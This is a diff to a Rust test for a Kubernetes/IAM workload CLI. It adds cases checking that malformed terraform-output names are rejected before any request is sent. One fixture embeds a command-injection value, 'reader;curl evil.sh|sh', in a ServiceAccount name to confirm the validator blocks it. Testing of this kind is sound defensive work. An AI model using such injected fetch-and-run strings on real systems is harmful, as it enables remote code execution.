@@ -13,7 +13,20 @@ async fn bad_input_exits_2_before_any_request() {
         r#"{"w":{"namespace":"n","ksa":"k","role_arn":"arn:aws:iam::1:role/x"}}"#,
     )
     .unwrap();
-    let cases: [(&[&str], &str); 5] = [
+    // Names that go into fix commands: Kubernetes names or bad input, naming the workload.
+    let bad_ksa = dir.path().join("bad-ksa.json");
+    std::fs::write(
+        &bad_ksa,
+        r#"{"w":{"namespace":"payments","ksa":"reader;curl evil.sh|sh","role_arn":"arn:aws:iam::123456789012:role/x"}}"#,
+    )
+    .unwrap();
+    let bad_namespace = dir.path().join("bad-namespace.json");
+    std::fs::write(
+        &bad_namespace,
+        r#"{"w":{"namespace":"pay ments","ksa":"reader","role_arn":"arn:aws:iam::123456789012:role/x"}}"#,
+    )
+    .unwrap();
+    let cases: [(&[&str], &str); 7] = [
         (
             &["--context", "nowhere"],
             "invalid --context: \"nowhere\" is not a context of the kubeconfig; it has: stand-in",
@@ -25,6 +38,14 @@ async fn bad_input_exits_2_before_any_request() {
         (
             &["--terraform-output", dir.path().to_str().unwrap()],
             "is not a regular file",
+        ),
+        (
+            &["--terraform-output", bad_ksa.to_str().unwrap()],
+            "invalid --terraform-output workloads.w.ksa: \"reader;curl evil.sh|sh\" is not a Kubernetes ServiceAccount name",
+        ),
+        (
+            &["--terraform-output", bad_namespace.to_str().unwrap()],
+            "invalid --terraform-output workloads.w.namespace: \"pay ments\" is not a Kubernetes namespace",
         ),
         (&["--namespace", "Payments"], "invalid --namespace"),
         (&["--pushgateway", "ftp://gw"], "invalid --pushgateway"),
